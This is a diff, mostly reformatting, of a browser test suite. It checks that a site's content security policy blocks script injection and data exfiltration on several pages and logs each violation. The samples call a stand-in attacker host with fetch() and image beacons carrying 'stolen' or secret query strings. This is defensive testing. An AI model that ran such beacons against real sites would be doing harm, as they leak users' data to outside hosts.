@@ -6,7 +6,10 @@ import { stopServers } from '../support/server.ts'
 import { startSite } from '../support/site.ts'
 import { enterAs, sitDown, type SampleUser } from '../support/visitor.ts'
 
-const [server, browser] = await Promise.all([startSite({ env: { LOG_LEVEL: 'warn' } }), openBrowser({ breaksPolicies: true })])
+const [server, browser] = await Promise.all([
+  startSite({ env: { LOG_LEVEL: 'warn' } }),
+  openBrowser({ breaksPolicies: true }),
+])
 afterAll(stopServers)
 
 /** By two addresses of the machine, since reports are counted by address and each attempt makes some. */
@@ -29,11 +32,24 @@ async function tryEverything(): Promise<Record<string, string>> {
     'a rule that calls text safe': () => (window as any).trustedTypes.createPolicy('mine', {}),
     'such a rule for everything': () => (window as any).trustedTypes.createPolicy('default', {}),
     'a request to another site': () => fetch('https://evil.example/?stolen'),
-    'a picture of another site': () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: () => reject(new Error('no picture')), src: 'https://evil.example/?stolen' })),
+    'a picture of another site': () =>
+      new Promise((resolve, reject) =>
+        Object.assign(new Image(), {
+          onload: resolve,
+          onerror: () => reject(new Error('no picture')),
+          src: 'https://evil.example/?stolen',
+        }),
+      ),
     'a thread from text': () => new Worker(URL.createObjectURL(new Blob(['1']))),
   }
   const outcomes: Record<string, string> = {}
-  for (const [name, way] of Object.entries(ways)) outcomes[name] = await Promise.resolve().then(way).then(() => 'went through', () => 'refused')
+  for (const [name, way] of Object.entries(ways))
+    outcomes[name] = await Promise.resolve()
+      .then(way)
+      .then(
+        () => 'went through',
+        () => 'refused',
+      )
   return outcomes
 }
 
@@ -41,12 +57,23 @@ async function tryEverything(): Promise<Record<string, string>> {
 async function outcomesOn(page: Page, path: string): Promise<Record<string, string>> {
   const { promise, resolve } = Promise.withResolvers<Record<string, string>>()
   await page.exposeFunction('tellOutcomes', resolve)
-  await page.addInitScript(`addEventListener('load', () => setTimeout(async () => tellOutcomes(await (${tryEverything.toString()})()), 0))`)
+  await page.addInitScript(
+    `addEventListener('load', () => setTimeout(async () => tellOutcomes(await (${tryEverything.toString()})()), 0))`,
+  )
   await page.goto(site + path)
   return promise
 }
 
-const readers: [path: string, who: SampleUser | null][] = [['/', null], ['/login', null], ['/no/such/page', null], ['/dashboard', 'Investor'], ['/admin', 'Admin'], ['/docs/api', null], ['/outbox', null], ['/outbox', 'Admin']]
+const readers: [path: string, who: SampleUser | null][] = [
+  ['/', null],
+  ['/login', null],
+  ['/no/such/page', null],
+  ['/dashboard', 'Investor'],
+  ['/admin', 'Admin'],
+  ['/docs/api', null],
+  ['/outbox', null],
+  ['/outbox', 'Admin'],
+]
 
 describe('E1: no text becomes code, and nothing leaves the site', () => {
   test.each(readers)('on %s', async (path, who) => {
@@ -54,7 +81,9 @@ describe('E1: no text becomes code, and nothing leaves the site', () => {
     if (who) await enterAs(page, site, who)
     const outcomes = await outcomesOn(page, path)
     expect(Object.keys(outcomes).length).toBeGreaterThan(10)
-    expect(outcomes).toEqual(Object.fromEntries(Object.keys(outcomes).map((name) => [name, 'refused'])))
+    expect(outcomes).toEqual(
+      Object.fromEntries(Object.keys(outcomes).map((name) => [name, 'refused'])),
+    )
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
     await context.close()
   })
@@ -62,7 +91,9 @@ describe('E1: no text becomes code, and nothing leaves the site', () => {
 
 test('E1: these ways are open where no policy closes them', async () => {
   const { context, page } = await sitDown(browser)
-  await page.route('**/open', (route) => route.fulfill({ contentType: 'text/html', body: '<p>Open' }))
+  await page.route('**/open', (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<p>Open' }),
+  )
   const outcomes = await outcomesOn(page, '/open')
   const open = Object.keys(outcomes).filter((name) => outcomes[name] === 'went through')
   expect(open).toEqual(Object.keys(outcomes).filter((name) => !name.endsWith('another site')))
@@ -73,10 +104,24 @@ test('E4: what a page refused stands in the log of the server, and who was there
   const { context, page } = await sitDown(browser)
   const other = at('[::1]')
   await page.goto(`${other}/login?next=/a-secret-of-somebody`)
-  await page.evaluate(() => void document.body.append(Object.assign(new Image(), { src: 'https://evil.example/seen.png?a-secret-of-somebody' })))
-  const told = () => server.output().stderr.split('\n').filter((line) => line.includes('/seen.png'))
+  await page.evaluate(
+    () =>
+      void document.body.append(
+        Object.assign(new Image(), { src: 'https://evil.example/seen.png?a-secret-of-somebody' }),
+      ),
+  )
+  const told = () =>
+    server
+      .output()
+      .stderr.split('\n')
+      .filter((line) => line.includes('/seen.png'))
   await expect.poll(() => told().length).toBe(1)
-  expect(JSON.parse(told()[0]!)).toMatchObject({ event: 'policy-violation', page: `${other}/login`, directive: 'img-src', blocked: 'https://evil.example/seen.png' })
+  expect(JSON.parse(told()[0]!)).toMatchObject({
+    event: 'policy-violation',
+    page: `${other}/login`,
+    directive: 'img-src',
+    blocked: 'https://evil.example/seen.png',
+  })
   expect(server.output().stderr).not.toContain('a-secret-of-somebody')
   await context.close()
 })
